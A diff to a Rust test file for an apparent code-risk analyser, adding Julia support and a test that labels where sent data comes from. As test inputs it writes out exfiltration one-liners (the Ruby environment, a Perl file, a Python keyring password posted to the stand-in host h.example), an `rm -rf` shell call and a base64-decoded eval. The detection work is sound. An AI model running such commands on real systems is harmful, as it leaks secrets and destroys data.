@@ -1,6 +1,6 @@
 //! Calls that stand for a program, a statement, another function, or stored code.
 
-use super::Language::{JavaScript, Perl, Php, Python, R, Ruby};
+use super::Language::{JavaScript, Julia, Perl, Php, Python, R, Ruby};
 use super::tests::holds;
 
 #[test]
@@ -167,5 +167,57 @@ fn stored_objects_run_code() {
             ),
             ("import pickle\npickle.loads(pickle.dumps(1))", &[]),
         ],
+    );
+}
+
+#[test]
+fn what_is_sent_is_known_where_it_comes_from() {
+    holds(
+        Ruby,
+        &[(
+            "require 'net/http'; Net::HTTP.post_form(URI('http://h.example'), ENV.to_h)",
+            &[
+                "credential.read (environment)",
+                "net.send http://h.example (method_write,plain_http,secret)",
+            ],
+        )],
+    );
+    holds(
+        Perl,
+        &[(
+            "open F, '<k'; local $/; HTTP::Tiny->new->post('http://h.example', {content => <F>})",
+            &[
+                "fs.read k",
+                "net.send http://h.example (local_data,method_write,plain_http)",
+            ],
+        )],
+    );
+    holds(
+        Python,
+        &[(
+            "import keyring, requests; requests.get('https://h.example/' + keyring.get_password('a', 'b'))",
+            &[
+                "credential.read a (store)",
+                "net.send https://h.example/… (secret)",
+            ],
+        )],
+    );
+    holds(
+        JavaScript,
+        &[(
+            "import('child_process').then(({exec}) => exec('ls'))",
+            &["sh: ls"],
+        )],
+    );
+    holds(
+        Julia,
+        &[("run(`sh -c $(\"rm -rf x\")`)", &["sh: sh -c 'rm -rf x'"])],
+    );
+    holds(
+        R,
+        &[(
+            "eval(parse(text=rawToChar(base64enc::base64decode('bHMoKQ=='))))",
+            &["R: ls()"],
+        )],
     );
 }
